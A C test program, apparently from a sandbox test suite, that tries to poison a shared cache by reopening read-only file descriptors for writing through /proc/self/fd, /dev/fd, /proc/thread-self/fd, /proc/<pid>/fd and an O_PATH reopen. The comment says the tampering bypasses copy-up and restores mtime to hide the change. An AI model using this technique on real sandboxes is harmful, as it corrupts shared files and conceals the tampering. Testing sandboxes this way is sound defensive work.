// Cache poisoning through a read-only fd's magic link: reopening /proc/self/fd/N (or
// /dev/fd/N, /proc/thread-self/fd/N, /proc/<pid>/fd/N, an O_PATH fd) for writing reaches the
// shared inode without the path the sandbox's copy-up looks at; futimens then restores the mtime.
#include "cache.h"

int main(void) {
  p_start();
  cache_open_targets();
  for (int i = 0; i < 2; ++i) {
    struct target* t = &tg[i];
    const char* spell[] = {"/proc/self/fd/%d", "/dev/fd/%d", "/proc/thread-self/fd/%d"};
    for (int s = 0; s < 3; ++s) {
      char* p = p_strf(spell[s], t->ro);
      int fd = open(p, O_RDWR);
      ATT(fd, "open(%s, O_RDWR)", p);
      tamper(p, t, fd);
    }
    char* p = p_strf("/proc/%d/fd/%d", (int)getpid(), t->ro);
    int fd = open(p, O_WRONLY);
    ATT(fd, "open(%s, O_WRONLY)", p);
    tamper(p, t, fd);
    int op = open(t->path, O_PATH);
    p = p_strf("/proc/self/fd/%d", op);
    fd = open(p, O_RDWR);
    ATT(fd, "open(O_PATH fd reopened, O_RDWR)");
    tamper("O_PATH reopen", t, fd);
  }
  cache_report();
  p_end();
}
